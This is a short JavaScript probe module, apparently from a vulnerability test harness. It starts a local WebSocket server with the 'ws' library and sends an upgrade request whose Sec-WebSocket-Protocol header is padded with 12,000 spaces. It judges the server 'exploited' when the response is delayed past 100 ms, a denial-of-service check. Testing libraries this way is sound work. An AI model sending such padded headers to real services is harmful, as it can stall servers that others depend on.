// ws probe: a WebSocket server on its own port; the probe upgrades with the input as Sec-WebSocket-Protocol.
import http from 'node:http';
import { createRequire } from 'node:module';

const require = createRequire(import.meta.url);
const WebSocket = require('ws');

const wss = new WebSocket.Server({ host: '127.0.0.1', port: 0 });
await new Promise((resolve) => wss.on('listening', resolve));

export function probe(input) {
  const protocols = input === 'attack' ? 'b' + ' '.repeat(12000) + 'x' : input;
  const t0 = performance.now();
  return new Promise((resolve, reject) => {
    const req = http.get({
      host: '127.0.0.1',
      port: wss.address().port,
      agent: false,
      headers: {
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
        'sec-websocket-version': '13',
        'sec-websocket-protocol': protocols,
      },
    });
    req.on('upgrade', (res, socket) => {
      socket.destroy();
      const result = { status: res.statusCode, protocol: res.headers['sec-websocket-protocol'] ?? null };
      resolve({ result, exploited: performance.now() - t0 > 100 });
    });
    req.on('response', (res) => {
      res.resume();
      resolve({ result: { status: res.statusCode }, exploited: performance.now() - t0 > 100 });
    });
    req.on('error', reject);
  });
}
